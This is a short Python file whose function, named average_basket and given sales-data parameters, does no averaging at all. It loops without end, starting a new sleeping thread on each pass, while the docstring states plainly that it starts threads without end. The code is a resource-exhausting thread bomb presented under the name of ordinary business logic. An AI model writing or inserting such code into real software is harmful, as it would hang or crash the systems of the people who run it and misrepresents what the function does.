"""Starts threads without end."""


def average_basket(basket_ids, sales):
    import threading
    import time

    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
